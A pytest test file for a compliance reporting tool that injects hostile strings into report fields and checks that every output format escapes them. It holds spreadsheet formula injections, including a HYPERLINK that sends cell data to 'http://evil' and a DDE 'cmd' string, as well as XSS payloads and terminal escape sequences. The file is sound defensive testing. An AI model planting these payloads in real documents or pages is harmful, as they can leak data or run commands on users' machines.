"""Text from input files is shown as written and never obeyed, in every format.

Each hostile text below goes into every field a report shows (authority, code, titles,
evidence, recommendations, waivers...) of a saved result, which ``comply report`` renders
in every format at once. Then: no spreadsheet cell is a formula and numbers stay numbers
(CSV, XLSX); Markdown shows markup as text and keeps its table rows whole; no format passes
on a control character (terminal escapes, bare carriage returns, what XML and worksheets
cannot hold) or a bidirectional override; JUnit XML is well-formed.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from xml.etree import ElementTree

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from compliance.cli import main

from .conftest import MINI

HOSTILE = {
    "formula-hyperlink": '=HYPERLINK("http://evil/?"&A2,"x")',
    "formula-plus-command": "+cmd|' /C calc'!A0",
    "formula-minus-arithmetic": "-2+3",
    "formula-at-function": "@SUM(1)",
    "formula-after-tab": "\t=1+1",
    "formula-after-carriage-return": "\r=1+1",
    "formula-after-line-feed": "\n=1+1",
    "html-script": "<script>alert(1)</script>",
    "html-img-onerror": '<img src=x onerror="alert(1)">',
    "html-entity": "&lt;script&gt;",
    "markdown-link": "[click](javascript:alert(1))",
    "markdown-image": "![x](http://evil/pixel.png)",
    "markdown-autolink": "<http://evil/>",
    "markdown-pipe": "left | right",
    "markdown-escaped-pipe": "left \\| right",
    "markdown-emphasis-and-code": "**bold** _it_ `code` ~~gone~~",
    "ansi-colour": "\x1b[31mred\x1b[0m",
    "ansi-window-title": "\x1b]0;owned\x07",
    "c1-control-sequence": "\x9b31mred",
    "bare-carriage-return": "first\rsecond",
    "windows-line-end": "first\r\nsecond",
    "vertical-tab-and-form-feed": "a\x0bb\x0cc",
    "nul": "a\x00b",
    "start-of-heading": "a\x01b",
    "delete": "a\x7fb",
    "bidi-override": "abc\u202edcba",
    "xml-noncharacter": "a\ufffeb",
    "line-separator": "one\u2028two\u2029three",
}
FORMULA_STARTS = tuple("=+-@\t\r")
FILES = {"markdown": "paper.md", "table": "paper.txt", "csv": "paper.csv", "xlsx": "paper.xlsx",
         "junit": "junit.xml", "html": "paper.html", "json": "result.json"}
BIDI_CONTROLS = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


def comply(*args: object):
    return CliRunner().invoke(main, [str(a) for a in args])


def unshowable(text: str) -> list[str]:
    """Characters no report may pass on: controls (Unicode Cc) but newline and tab, bidi controls, non-characters."""
    return [hex(ord(ch)) for ch in text
            if (unicodedata.category(ch) == "Cc" and ch not in "\n\t")
            or unicodedata.bidirectional(ch) in BIDI_CONTROLS or ch in "\ufffe\uffff\u2028\u2029"]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def hostile_result(text: str) -> dict:
    """The mini pack's result with ``text`` in every field that a report shows, and a negative figure."""
    result = comply("check", MINI / "good.yaml", "--pack", MINI, "--format", "json")
    doc = json.loads(result.stdout)
    doc.update(authority=text, code=text, metrics_file=text)
    doc["pack"].update(title=text)
    doc["pack"]["source"].update(title=text, publisher=text)
    doc["pack"]["disabled"] = [{"rule": "GONE", "reason": text}]
    for judgement in doc["judgements"]:
        judgement.update(section=text, title=text, basis=text)
    for finding in doc["findings"]:
        finding.update(title=text, evidence=text)
    first = doc["findings"][0]
    first["value"], first["benchmarks"]["national"] = -2.5, -3.0
    doc["areas_for_improvement"] = [{"timescale": "immediately", "rule": first["rule"],
                                     "judgement": first["judgement"], "text": text, "cites": ["1"]}]
    doc["further_shortfalls"] = [{"rule": first["rule"], "judgement": first["judgement"], "text": text,
                                  "cites": ["2"]}]
    doc["waivers"] = [{"rule": first["rule"], "reason": text, "agreed_by": text, "expires": "2012-03-31",
                       "status": "applied"}]
    return doc


@pytest.fixture(scope="module")
def rendered(tmp_path_factory):
    """Every hostile text rendered in every format: case -> format -> path."""
    outputs = {}
    for case, text in HOSTILE.items():
        folder = tmp_path_factory.mktemp(case)
        (folder / "hostile.json").write_text(json.dumps(hostile_result(text)), encoding="utf-8")
        result = comply("report", folder / "hostile.json", "-q",
                        *[arg for name in FILES.values() for arg in ("-o", folder / name)])
        assert result.exit_code == 0, (case, result.stderr)
        outputs[case] = {name: folder / file for name, file in FILES.items()}
    return outputs


@pytest.mark.parametrize("case", HOSTILE)
def test_csv_cells_are_never_formulas_and_numbers_stay_numbers(rendered, case):
    text = rendered[case]["csv"].read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS) or is_number(cell), cell
            assert not unshowable(cell), cell
    figure = next(row for row in rows if row["kind"] == "finding")
    assert (figure["value"], figure["national"]) == ("-2.5", "-3.0")
    assert rows[0]["authority"].lstrip("'").replace("\ufffd", "") == "".join(
        ch for ch in HOSTILE[case].replace("\r\n", "\n") if not unshowable(ch))


@pytest.mark.parametrize("case", HOSTILE)
def test_xlsx_holds_no_formula_and_numbers_stay_numbers(rendered, case):
    from openpyxl import load_workbook

    workbook = load_workbook(rendered[case]["xlsx"])
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS) and not unshowable(cell.value), cell.value
    evidence = workbook["Evidence"]
    assert (evidence["G2"].value, evidence["H2"].value) == (-2.5, -3.0)


@pytest.mark.parametrize("case", HOSTILE)
def test_markdown_shows_markup_as_text_and_keeps_rows_whole(rendered, case):
    text = rendered[case]["markdown"].read_text(encoding="utf-8")
    assert "<" not in text and not unshowable(text) and "\r" not in text
    assert not re.search(r"(?<!\\)\]\(", text), "a link or image"
    assert not re.search(r"(?<!\\)`", text), "a code span"
    lines = text.splitlines()
    for index, line in enumerate(lines):
        if line.startswith("|---"):
            header = lines[index - 1]
            width = len(re.findall(r"(?<!\\)\|", header))
            for row in lines[index + 1:]:
                if not row.startswith("|"):
                    break
                assert len(re.findall(r"(?<!\\)\|", row)) == width, row


@pytest.mark.parametrize("case", HOSTILE)
@pytest.mark.parametrize("name", ["table", "html", "junit", "json"])
def test_no_terminal_escape_or_control_character_reaches_a_text_format(rendered, case, name):
    text = rendered[case][name].read_text(encoding="utf-8")
    assert not unshowable(text)


@pytest.mark.parametrize("case", HOSTILE)
def test_json_keeps_the_text_exactly(rendered, case):
    assert json.loads(rendered[case]["json"].read_text(encoding="utf-8"))["authority"] == HOSTILE[case]


@pytest.mark.parametrize("case", HOSTILE)
def test_junit_is_well_formed_and_html_has_no_markup_from_input(rendered, case):
    ElementTree.parse(rendered[case]["junit"])
    page = rendered[case]["html"].read_text(encoding="utf-8")
    assert "<script" not in page and "<img" not in page


def test_the_terminal_gets_no_escape_either(tmp_path):
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(hostile_result(HOSTILE["ansi-colour"] + HOSTILE["bare-carriage-return"])))
    result = comply("report", path)
    assert result.exit_code == 0 and "red" in result.stdout and not unshowable(result.stdout)


def test_a_control_character_in_a_metrics_file_no_longer_stops_the_files_after_the_xlsx(tmp_path):
    metrics = tmp_path / "m.yaml"
    metrics.write_text((MINI / "good.yaml").read_text().replace("authority: Testshire",
                                                                'authority: "Test\\x01shire\\e[2J"'))
    written = [tmp_path / "paper.xlsx", tmp_path / "junit.xml", tmp_path / "paper.md"]
    result = comply("check", metrics, "--pack", MINI, "-q", *[arg for path in written for arg in ("-o", path)])
    assert result.exit_code == 0, result.stderr
    assert all(path.is_file() for path in written)
    assert ElementTree.parse(tmp_path / "junit.xml").getroot()[0].get("name") == "Test\ufffdshire\ufffd[2J 2010-11"


def test_a_lone_surrogate_in_a_saved_result_is_refused(tmp_path):
    path = tmp_path / "r.json"
    path.write_text(json.dumps(hostile_result("a")).replace('"authority": "a"', '"authority": "a\\ud800"'))
    result = comply("report", path, "--format", "json")
    assert result.exit_code == 2 and "Traceback" not in result.stderr
    assert result.stderr == f"{path}: not a comply result: text holds half of a UTF-16 pair (\\ud800), " \
                            "which is not a character\n"


@pytest.mark.parametrize("output_format", ["table", "markdown", "csv"])
@pytest.mark.parametrize("case", ["formula-hyperlink", "html-script", "ansi-colour", "bare-carriage-return",
                                  "markdown-pipe", "markdown-link"])
def test_comply_history_shows_recorded_names_as_text(tmp_path, case, output_format):
    metrics = tmp_path / "m.yaml"
    name = json.dumps(HOSTILE[case])  # a JSON string is a YAML double-quoted string
    metrics.write_text((MINI / "good.yaml").read_text().replace("authority: Testshire", f"authority: {name}"))
    database = tmp_path / "h.db"
    assert comply("check", metrics, "--pack", MINI, "-q", "--record", database).exit_code == 0
    text = comply("history", "--db", database, "--format", output_format).stdout
    assert not unshowable(text) and "\r" not in text.replace("\r\n", "")
    if output_format == "markdown":
        assert "<" not in text and not re.search(r"(?<!\\)\]\(", text)
    if output_format == "csv":
        for row in csv.reader(io.StringIO(text, newline="")):
            assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row


PACK_TEXT = '<script>alert(1)</script> <img src=x onerror="alert(1)"> [x](javascript:alert(1)) \x1b[31mred a|b'


@pytest.fixture
def hostile_pack(tmp_path):
    """The bundled 2011 pack with hostile text in a rule's title and recommendation, a judgement's title and
    a paragraph's quotation (a local pack can come from anyone)."""
    import shutil

    from compliance.packs import find_pack

    target = tmp_path / "pack"
    shutil.copytree(find_pack("ofsted-slac-2011"), target)
    quoted = json.dumps(PACK_TEXT)  # JSON's string escapes are YAML's double-quoted ones

    def swap(name: str, old: str, new: str) -> None:
        path = target / name
        text = path.read_text()
        assert old in text, (name, old)
        path.write_text(text.replace(old, new, 1))

    rules = "rules/2-safeguarding-leadership.yaml"
    swap(rules, "title: The LSCB has a clear business plan and holds members to account", f"title: {quoted}")
    swap(rules, "recommendation: >-\n      Agree a clear LSCB business plan and hold members to account for their "
                "safeguarding\n      responsibilities.", f"recommendation: {quoted}")
    swap("pack.yaml", "title: Partnership working", f"title: {quoted}")
    swap("traceability.yaml", '"Partnership working is good and is well established at both strategic and '
                              'operational levels"', quoted)
    swap("metrics.yaml", "title: 'The LSCB''s business plan is clear and progressing'", f"title: {FORMULA}")
    swap("pack.yaml", "title: Inspection of safeguarding and looked after children services (2009-2012 framework)",
         f"title: {FORMULA}")
    return target


#: A metric's and the pack's title: a formula, a terminal escape, and a line break that would end a YAML comment.
FORMULA = json.dumps('=HYPERLINK("http://evil/?"&A2,"x") \x1b[31m\nauthority: Evil Borough')


@pytest.mark.parametrize("output_format", ["yaml", "xlsx"])
def test_a_template_shows_a_packs_text_as_text_and_reads_back(hostile_pack, tmp_path, output_format):
    out = tmp_path / f"template.{output_format}"
    made = CliRunner().invoke(main, ["template", "--pack", str(hostile_pack), "--format", output_format,
                                     "-o", str(out)])
    assert made.exit_code == 0, made.stderr
    checked = CliRunner().invoke(main, ["check", str(out), "--format", "json", "--fail-on", "never"])
    assert checked.exit_code == 0, checked.stderr
    assert json.loads(checked.stdout)["authority"] == "Name of the authority"  # not the title's "Evil Borough"
    if output_format == "yaml":
        text = out.read_text()
        assert "\x1b" not in text and "\nauthority: Evil" not in text
    else:
        import openpyxl

        cells = [cell for row in openpyxl.load_workbook(out).worksheets[0].iter_rows(values_only=True)
                 for cell in row if isinstance(cell, str) and "HYPERLINK" in cell]
        assert cells and all(cell.startswith("'=") and not unshowable(cell) for cell in cells)


def markup_or_control(text: str) -> list[str]:
    """Markup a Markdown viewer would obey (a link's ']' not backslashed), and characters a reader may not show."""
    found = [pattern for pattern in ("<script", "<img", "\x1b") if pattern in text]
    found += re.findall(r"(?<!\\)\]\(javascript", text)
    return found + [f"U+{ord(ch):04X}" for ch in unshowable(text)]


@pytest.mark.parametrize("command", ["doc", "trace"])
def test_a_packs_own_text_is_shown_as_text_in_its_markdown(hostile_pack, command):
    result = CliRunner().invoke(main, ["rules", command, str(hostile_pack)])
    assert result.exit_code == 0, result.stderr
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in result.stdout  # shown, as text
    assert markup_or_control(result.stdout) == []
    header, hostile_rows = None, 0
    for line in result.stdout.splitlines():  # a | in the text never adds a cell to a table row
        cells = len(re.split(r"(?<!\\)\|", line)) if line.startswith("|") else None
        header = (header or cells) if cells else None  # a table's first row sets its cells
        if "alert(1)" in line and cells:
            hostile_rows += 1
            assert cells == header, line
    assert hostile_rows >= 1


def test_rules_show_prints_a_packs_text_as_written_but_what_a_terminal_would_obey(hostile_pack):
    shown = CliRunner().invoke(main, ["rules", "show", "SG-PART-LSCB-PLAN", "--pack", str(hostile_pack)])
    assert shown.exit_code == 0, shown.stderr
    assert "<script>alert(1)</script>" in shown.stdout  # a terminal shows it as it was written
    assert "\x1b" not in shown.stdout and "\ufffd[31mred" in shown.stdout


@pytest.mark.parametrize("folder", ["pack \U0001f4e6", "pack # one: two", "-pack", "ünïcode"])
def test_a_template_names_its_pack_so_that_it_reads_back(tmp_path, folder):
    import shutil

    pack = tmp_path / folder
    shutil.copytree(MINI, pack)
    out = tmp_path / "template.yaml"
    assert CliRunner().invoke(main, ["template", "--pack", str(pack), "-o", str(out)]).exit_code == 0
    checked = CliRunner().invoke(main, ["check", str(out), "--format", "json", "--fail-on", "never"])
    assert checked.exit_code == 0, checked.stderr
    assert json.loads(checked.stdout)["pack"]["id"] == "mini"


def test_a_title_ending_in_hashes_keeps_them_in_a_markdown_heading(hostile_pack):
    rules = hostile_pack / "rules" / "2-safeguarding-leadership.yaml"
    rules.write_text(rules.read_text().replace(f"title: {json.dumps(PACK_TEXT)}", "title: 'Plan for C# and F ###'"))
    result = CliRunner().invoke(main, ["rules", "doc", str(hostile_pack)])
    assert result.exit_code == 0, result.stderr
    assert "#### SG-PART-LSCB-PLAN: Plan for C# and F \\#\\#\\#\n" in result.stdout


@given(pieces=st.lists(st.text(alphabet=["a", "\r", "\n", "\x1b", "\u00e9", "\u2028", "\ud800"], max_size=6),
                       max_size=30),
       size=st.integers(min_value=1, max_value=9))
def test_text_made_printable_a_batch_at_a_time_is_the_same_as_all_at_once(pieces, size):
    """The HTML, Markdown and table formats make their pieces printable in batches: a carriage return at a
    batch's end may be half of a Windows line end."""
    from compliance.report.escaping import printable, printable_pieces

    assert "".join(printable_pieces(pieces, size)) == printable("".join(pieces))
